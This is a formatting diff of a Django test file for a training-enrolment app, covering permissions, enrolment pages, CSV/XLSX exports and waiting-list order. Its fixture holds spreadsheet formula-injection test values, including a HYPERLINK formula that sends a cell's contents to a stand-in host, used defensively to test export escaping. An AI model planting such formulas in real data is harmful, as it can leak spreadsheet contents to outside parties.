@@ -19,7 +19,9 @@ pytestmark = pytest.mark.django_db
 
 @pytest.fixture
 def staff_client(client, django_user_model):
-    user = django_user_model.objects.create_user("planner", "planner@academie.exemple", "a-long-password-1", is_staff=True)
+    user = django_user_model.objects.create_user(
+        "planner", "planner@academie.exemple", "a-long-password-1", is_staff=True
+    )
     user.user_permissions.add(
         Permission.objects.get(codename="view_enrolment"),
         Permission.objects.get(codename="change_enrolment"),
@@ -31,14 +33,25 @@ def staff_client(client, django_user_model):
 def fc06_session():
     """A 3.5-hour session whose enrolments hold the FC-06 and FC-07 values."""
     course_session = session_with_days(capacity_seats=12)
-    SessionSlotFactory(course_session=course_session, starts_at=paris(2026, 3, 30, 9), ends_at=paris(2026, 3, 30, 12, 30))
+    SessionSlotFactory(
+        course_session=course_session, starts_at=paris(2026, 3, 30, 9), ends_at=paris(2026, 3, 30, 12, 30)
+    )
     organisation = ClientOrganisationFactory(name="Société Générale d'Électricité")
-    EnrolmentFactory(booking__course_session=course_session, booking__client_organisation=organisation,
-                     first_name="Zoë", last_name="Ñúñez-Łukasiewicz", email="zoe@exemple.fr")
     EnrolmentFactory(
-        booking__course_session=course_session, booking__contact_phone="+33 1 23 45 67 89",
-        first_name="Eve", last_name='=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")', email="eve@exemple.fr",
-        job_title="-2+3", accessibility_needs="@SUM(1+1)",
+        booking__course_session=course_session,
+        booking__client_organisation=organisation,
+        first_name="Zoë",
+        last_name="Ñúñez-Łukasiewicz",
+        email="zoe@exemple.fr",
+    )
+    EnrolmentFactory(
+        booking__course_session=course_session,
+        booking__contact_phone="+33 1 23 45 67 89",
+        first_name="Eve",
+        last_name='=HYPERLINK("http://exemple.invalid/?"&A2;"Cliquez")',
+        email="eve@exemple.fr",
+        job_title="-2+3",
+        accessibility_needs="@SUM(1+1)",
     )
     return course_session
 
@@ -133,7 +146,9 @@ def test_staff_without_the_permission_cannot_see_enrolments(client, django_user_
 def test_the_session_page_lists_enrolments_with_accessibility_needs_for_staff(staff_client):
     course_session = fc06_session()
 
-    content = staff_client.get(reverse("enrolment:session_enrolments", kwargs={"pk": course_session.pk})).content.decode()
+    content = staff_client.get(
+        reverse("enrolment:session_enrolments", kwargs={"pk": course_session.pk})
+    ).content.decode()
 
     assert "Ñúñez-Łukasiewicz" in content
     assert "@SUM(1+1)" in content
@@ -190,7 +205,9 @@ def test_the_session_enrolment_list_and_exports_run_a_bounded_number_of_queries(
 ):
     course_session = session_with_days(datetime.date(2027, 3, 30), capacity_seats=40)
     for _ in range(count):
-        EnrolmentFactory(booking__course_session=course_session, booking__client_organisation=ClientOrganisationFactory())
+        EnrolmentFactory(
+            booking__course_session=course_session, booking__client_organisation=ClientOrganisationFactory()
+        )
 
     for name in ("session_enrolments", "session_enrolments_csv", "session_enrolments_xlsx"):
         with django_assert_max_num_queries(9):
@@ -207,10 +224,12 @@ def test_the_enrolment_list_shows_seats_first_then_the_waiting_list_in_order_the
 
     course_session = session_with_days(datetime.date(2027, 3, 30), capacity_seats=4)
     EnrolmentFactory(booking__course_session=course_session, status="cancelled", last_name="D")
-    EnrolmentFactory(booking__course_session=course_session, status="waiting", last_name="C2",
-                     waiting_since=paris(2027, 1, 2, 9))
-    EnrolmentFactory(booking__course_session=course_session, status="waiting", last_name="C1",
-                     waiting_since=paris(2027, 1, 1, 9))
+    EnrolmentFactory(
+        booking__course_session=course_session, status="waiting", last_name="C2", waiting_since=paris(2027, 1, 2, 9)
+    )
+    EnrolmentFactory(
+        booking__course_session=course_session, status="waiting", last_name="C1", waiting_since=paris(2027, 1, 1, 9)
+    )
     EnrolmentFactory(booking__course_session=course_session, last_name="A")
 
     _headers, _rows, enrolments = enrolment_rows(course_session)
